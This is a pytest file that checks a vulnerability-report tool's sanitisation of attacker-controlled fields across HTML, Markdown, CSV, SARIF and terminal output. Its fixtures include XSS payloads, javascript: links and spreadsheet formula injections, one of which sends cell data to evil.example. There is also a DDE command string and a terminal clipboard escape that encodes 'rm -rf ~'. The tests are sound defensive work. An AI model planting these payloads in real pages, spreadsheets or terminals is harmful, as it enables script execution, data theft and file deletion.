"""Attacker text never reaches a reader's browser, Markdown viewer, spreadsheet or terminal as anything but text.

Reports are built from hostile records directly (no cascade to train): every field a stranger controls (title,
URL, project, evidence, advisory ids) carries markup, link schemes, formulas or terminal escapes.
"""

import csv
import html
import io
import json
import re
from datetime import datetime, timezone
from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt
from typer.testing import CliRunner

from transferlab.cli import app
from transferlab.vuln import inert
from transferlab.vuln import report as R
from transferlab.vuln.dependencies import Dependency
from transferlab.vuln.mapping import Mapping
from transferlab.vuln.records import Record
from transferlab.vuln.scan import DependencyResult, Item, ScanResult
from transferlab.vuln.sources.base import Batch
from transferlab.vuln.store import Store

T0 = datetime(2024, 3, 1, tzinfo=timezone.utc)
PWN = "window.__pwned=1"
# (title, url): each would run script, forge a link or inject a formula if it were not made inert.
HOSTILE = [
    (f"<script>{PWN}</script>", f"javascript:{PWN}"),
    (f'<img src=x onerror="{PWN}">', f"JaVaScRiPt:{PWN}"),
    (f"[click me](javascript:{PWN})", f" java\tscript:{PWN}"),
    (f'<svg onload="{PWN}">', f"data:text/html,<script>{PWN}</script>"),
    ('=HYPERLINK("https://evil.example/?"&A1,"open")', f'https://example.org/a) <img src=x onerror="{PWN}">'),
    ("+cmd|' /C calc'!A0", f"https://example.org/x'><script>{PWN}</script>"),
    ("a | b *bold* _it_ `code` ~~gone~~ $x$", f"vbscript:{PWN}"),
    ("\x1b[2J\x1b]0;owned\x07Terminal\u202egnp.exe", "https://example.org/issues/7"),
    ('x;=HYPERLINK("https://evil.example/?"&A1,"open")', "https://example.org/issues/8"),
]
HOSTILE_PROJECT = f'evil/<img src=x onerror="{PWN}">'
HOSTILE_EVIDENCE = f"-2+3 <script>{PWN}</script> [x](javascript:{PWN}) <svg onload={PWN}>"
HOSTILE_ADVISORY = f"GHSA-<svg onload={PWN}>"
ALLOWED_TAGS = {"html", "head", "meta", "title", "style", "body", "h1", "h2", "dl", "dt", "dd", "b", "p", "table",
                "thead", "tbody", "tr", "th", "td", "a", "br", "small", "code", "ul", "li", "strong", "em"}


def _record(n, title, url, project="acme/parser"):
    return {"id": n, "source": "github", "connector": "test", "project": project, "kind": "issue",
            "native_id": f"{project}#{n}", "url": url, "title": title, "body": "", "author": "=cmd|'/C calc'!A0",
            "created_at": T0, "updated_at": T0, "raw": {"state": "@SUM(1+1)"}, "verdict_comment": "-1+1",
            "reviewer": None, "refs": {"cve": [], "ghsa": [HOSTILE_ADVISORY], "cwe": []}}


def hostile_result() -> ScanResult:
    items = [Item(record=_record(n, title, url, HOSTILE_PROJECT if n == 1 else "acme/parser"), stage1=0.9,
                  stage2=0.8, evidence={"sentences": [{"sentence": HOSTILE_EVIDENCE, "drop": 0.5}]},
                  advisory=HOSTILE_ADVISORY if n == 2 else None)
             for n, (title, url) in enumerate(HOSTILE, 1)]
    dep = DependencyResult(
        dependency=Dependency("PyPI", "acme-parser", "1.2.0", "==1.2.0", "requirements.txt:2"),
        mapping=Mapping("PyPI", "acme-parser", [HOSTILE_PROJECT, "acme/parser"], f"registry <b>{PWN}</b>"),
        records=len(items), items=items,
        known=[{"id": HOSTILE_ADVISORY, "aliases": [f"[x](javascript:{PWN})"], "summary": f"<script>{PWN}</script>"}])
    unmapped = DependencyResult(dependency=Dependency("PyPI", "other", None, ">=1", "requirements.txt:3"),
                                mapping=Mapping("PyPI", "other", reason=f"<img src=x onerror={PWN}>"))
    model = {"id": "glove-dan@abc", "threshold": 0.5, "rule": "recall"}
    return ScanResult(dependencies=[dep, unmapped], cascade={"version": "v1", "models": {"stage1": model,
                                                                                        "stage2": model}},
                      store="sqlite:///v.db", since=None, generated_at="2024-03-02T00:00:00+00:00",
                      manifests=["requirements.txt"], advisories=None, problems=[f"line 9: <script>{PWN}</script>"])


class _Tags(HTMLParser):
    def __init__(self):
        super().__init__()
        self.tags, self.hrefs, self.metas, self.text = [], [], [], []

    def handle_starttag(self, tag, attrs):
        self.tags.append(tag)
        attrs = dict(attrs)
        if "href" in attrs or "src" in attrs:
            self.hrefs.append(attrs.get("href") or attrs.get("src"))
        if tag == "meta":
            self.metas.append(attrs)
        if any(name.startswith("on") for name in attrs):
            self.tags.append(f"{tag}[event handler]")

    def handle_data(self, data):
        self.text.append(data)


def _check_html(page: str) -> _Tags:
    parsed = _Tags()
    parsed.feed(page)
    assert set(parsed.tags) <= ALLOWED_TAGS, set(parsed.tags) - ALLOWED_TAGS
    assert parsed.hrefs and all(re.match(r"https?://", h) for h in parsed.hrefs), parsed.hrefs
    text = " ".join("".join(parsed.text).split())
    for title, _ in HOSTILE[:4]:
        assert title in text  # shown, as text
    return parsed


# ------------------------------------------------------------------------------------------------ the toolbox
@pytest.mark.parametrize("url", ["javascript:alert(1)", "JAVASCRIPT:alert(1)", " javascript:alert(1)",
                                 "java\tscript:alert(1)", "java\nscript:alert(1)", "\x00javascript:alert(1)",
                                 "\x01 javascript:alert(1)", "vbscript:x", "data:text/html,x", "file:///etc/passwd",
                                 "//evil.example/", "/relative", "https:///nohost", "https://a\x00b.example/",
                                 "https://example.org/\u202eevil", "mailto:a@b.c", "", None, 42])
def test_safe_url_refuses_everything_but_http_and_https(url):
    assert inert.safe_url(url) is None


def test_safe_url_keeps_http_links_and_encodes_what_could_end_them():
    assert inert.safe_url("https://github.com/a/b/issues/1") == "https://github.com/a/b/issues/1"
    assert inert.safe_url("  HTTP://example.org/?q=1&x=%20 ") == "HTTP://example.org/?q=1&x=%20"
    hostile = inert.safe_url("https://example.org/a b(c)\"'<x>`|\\")
    assert hostile.startswith("https://example.org/a%20b%28c%29") and not re.search(r"[\s()\"'<>`|\\]", hostile)


def test_terminal_text_loses_escape_sequences_controls_and_bidi_overrides():
    hostile = ("a\x1b[31mred\x1b[0m \x1b]0;title\x07 \x1b]8;;https://evil\x1b\\link\x1b]8;;\x1b\\ \x9b2J \x07\x08"
               "\r\u202eexe.txt\u2066x\u2069\x7f")
    cleaned = inert.plain(hostile)
    assert not re.search("[\x00-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]", cleaned)
    assert "red" in cleaned and "link" in cleaned and "title" not in cleaned and "[31m" not in cleaned
    assert inert.plain("two\nlines\x1b[2J", keep_newlines=True) == "two\nlines"


@pytest.mark.parametrize("cell", ["=1+1", "+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1"])
def test_csv_cells_that_a_spreadsheet_would_run_become_text(cell):
    out = inert.csv_cell(cell)
    assert out.startswith("'") and out.replace("'", "") == cell  # only quote marks added
    assert not re.search("[;\t][=+@-]", out)  # nor after a tab, where a tab-splitting spreadsheet starts a cell
    assert inert.csv_cell("safe =1") == "safe =1" and inert.csv_cell(-1.5) == -1.5


# Text that is mostly Markdown/HTML metacharacters, controls and bidi marks, with some letters and spaces.
NASTY = st.text(st.one_of(st.sampled_from(list("\\`*_[]()<>&;#!|~$:=+-@'\"/ \t\n\r\x1b\x07\x9b\u202e\u2066.ajs")),
                          st.characters()), max_size=40)


@settings(max_examples=300, deadline=None)
@given(NASTY)
def test_any_text_renders_as_exactly_that_text_in_markdown_and_html(text):
    expected = inert.one_line(text)
    md = MarkdownIt("commonmark").enable(["table", "strikethrough"])
    rendered = md.render(f"x {inert.md_text(text)}").strip()
    assert rendered.startswith("<p>") and rendered.endswith("</p>") and "<" not in rendered[3:-4]
    assert html.unescape(rendered[3:-4]) == f"x {expected}".strip()
    assert html.unescape(inert.html_text(text)) == expected and "<" not in inert.html_text(text)


@settings(max_examples=300, deadline=None)
@given(st.one_of(NASTY, NASTY.map(lambda t: "https://example.org/" + t), NASTY.map(lambda t: "jAvA" + t)))
def test_any_url_is_http_or_nothing_and_cannot_end_its_attribute_or_link(url):
    safe = inert.safe_url(url)
    assert safe is None or (re.match(r"(?i)https?://[^/?#]", safe) and not re.search(r"[\s\"'<>()`\\]", safe)
                            and not CONTROLS.search(safe))
    assert not CONTROLS.search(inert.plain(url, keep_newlines=True)) and "\n" not in inert.plain(url)


# ------------------------------------------------------------------------------------------------ the reports
def test_html_report_links_only_http_and_forbids_scripts():
    page = R.to_html(hostile_result())
    parsed = _check_html(page)
    assert "javascript:" not in " ".join(parsed.hrefs).lower()
    csp = [m["content"] for m in parsed.metas if (m.get("http-equiv") or "").lower() == "content-security-policy"]
    assert csp and "default-src 'none'" in csp[0] and "script-src" not in csp[0]
    assert page.index("Content-Security-Policy") < page.index("<body")  # a policy after content is too late
    # the unsafe URLs are still shown, as text, so a reader sees what was there
    assert "javascript:window.__pwned=1" in " ".join("".join(parsed.text).split())


@pytest.mark.parametrize("validate", [True, False], ids=["markdown-it", "permissive-renderer"])
def test_markdown_report_renders_no_html_and_no_unsafe_link(validate):
    text = R.markdown(hostile_result())
    md = MarkdownIt("commonmark").enable(["table", "strikethrough"])  # html=True: raw HTML passes, as on many sites
    if not validate:
        md.validateLink = lambda url: True  # a renderer that does not drop javascript: links itself
    rendered = md.render(text)
    parsed = _check_html(rendered)
    assert {"table", "a"} <= set(parsed.tags) and "em" not in parsed.tags  # *bold* _it_ stay text
    assert not re.search(r"\]\(\s*(?!https?://)", text.replace("\\]", ""))  # no [x](non-http) in the source
    # every hostile row stays one row of the table: a | in a title does not add cells
    rows = [line for line in text.splitlines() if line.startswith("| ") and line[2].isdigit()]
    assert len(rows) == len(HOSTILE)
    assert all(len(re.findall(r"(?<!\\)\|", row)) == 8 for row in rows)


def test_csv_report_neutralises_formulas_in_every_text_column():
    result = hostile_result()
    rows = list(csv.DictReader(io.StringIO(R.to_csv(result), newline="")))
    assert len(rows) == len(HOSTILE)
    for row in rows:
        for column, value in row.items():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), (column, value)
    by_title = {r["title"]: r for r in rows}
    assert "'" + HOSTILE[4][0] in by_title and "'" + HOSTILE[5][0] in by_title  # kept, as text
    first = rows[0]
    assert first["evidence"] == "'" + HOSTILE_EVIDENCE and first["creator_name"].startswith("'=")
    assert first["status"] == "'@SUM(1+1)" and first["triage_feedback_comments"] == "'-1+1"
    assert first["stage1_score"] == "0.9"  # numbers stay numbers


def test_csv_cells_are_quoted_so_a_semicolon_splitting_spreadsheet_starts_no_formula():
    """Spreadsheets in many locales split a .csv on ';': an unquoted 'x;=HYPERLINK(...)' would start a new cell
    with a formula.  Every cell is quoted, so read with ';' as the delimiter no cell starts with a formula."""
    text = R.to_csv(hostile_result())
    assert ";'=HYPERLINK" in text
    for cell in text.replace("\t", ";").split(";")[1:]:  # what follows each split, as such a spreadsheet sees it
        assert not cell.lstrip(' "').startswith(("=", "+", "-", "@")), cell


def test_json_keeps_the_data_and_sarif_messages_are_plain_text():
    result = hostile_result()
    data = json.loads(R.to_json(result))
    assert data["dependencies"][0]["flagged"][0]["title"] == HOSTILE[0][0]  # JSON is data: kept exactly
    sarif = json.loads(R.sarif(result))
    for res in sarif["runs"][0]["results"]:
        message = res["message"]
        assert set(message) == {"text"}  # never message.markdown for ingested text
        # SARIF viewers turn [text](target) in plain text into a link; brackets must be escaped
        assert not re.search(r"(?<!\\)\[", message["text"]) and not re.search("[\x00-\x1f]", message["text"])
    assert "\\[click me\\](javascript:" in sarif["runs"][0]["results"][2]["message"]["text"]


# ------------------------------------------------------------------------------------------------ the terminal
TERMINAL_TITLE = "Overflow\x1b[2J\x1b]0;owned\x07\x1b]52;c;cm0gLXJmIH4=\x07 in \u202eparser\x9b31m [red]x[/red]"
CONTROLS = re.compile("[\x00-\x09\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")


@pytest.fixture
def hostile_store(tmp_path):
    store = Store.open(f"sqlite:///{tmp_path / 'v.db'}")
    store.write_batch("t", Batch(records=[Record(
        source="github", connector="test", project="acme/parser", kind="issue", native_id="acme/parser#1",
        url="https://github.com/acme/parser/issues/1\x1b[8m", title=TERMINAL_TITLE,
        body="A heap overflow.", created_at=T0, updated_at=T0)]))
    store.write_scores("v1", [{"record_id": 1, "stage1": 0.9, "stage2": 0.8, "flagged": True,
                               "evidence": {"sentences": [{"sentence": "boom\x1b[5m\x1b]8;;https://evil\x07here"}]}}])
    return f"sqlite:///{tmp_path / 'v.db'}"


@pytest.mark.parametrize("args,answers", [([], None), (["-i"], "k\nq\n")], ids=["queue", "interactive"])
def test_triage_prints_no_terminal_escapes(hostile_store, args, answers):
    result = CliRunner().invoke(app, ["vuln", "triage", "--db", hostile_store, "--reviewer", "x", *args],
                                input=answers)
    assert result.exit_code == 0, result.output
    assert not CONTROLS.search(result.output), repr(result.output)
    assert "Overflow" in result.output and "parser" in result.output and "[red]" in result.output


def test_scan_summary_prints_no_terminal_escapes(capsys):
    from transferlab.vuln.cli import _print_result

    result = hostile_result()
    result.dependencies[0].mapping.projects = ["evil/\x1b]0;owned\x07repo\u202e", "[bold]acme[/bold]"]
    result.problems = ["line 2: \x1b[2Jbad\x1b]52;c;AAAA\x07"]
    _print_result(result)
    captured = capsys.readouterr()
    assert not CONTROLS.search(captured.out + captured.err), repr(captured.out + captured.err)
    assert "[bold]acme[" in captured.out and "bad" in captured.err  # markup shown as text


def test_error_messages_echo_no_terminal_escapes(capsys):
    import typer

    from transferlab.cli_common import friendly
    from transferlab.errors import ConfigError

    @friendly
    def fails():
        raise ConfigError("cannot read title \x1b]0;owned\x07\x1b[2J[bold]x[/bold]\u202e", hint="fix it")

    with pytest.raises(typer.Exit):
        fails()
    captured = capsys.readouterr().err
    assert "cannot read title" in captured and "[bold]x[/bold]" in captured and not CONTROLS.search(captured)
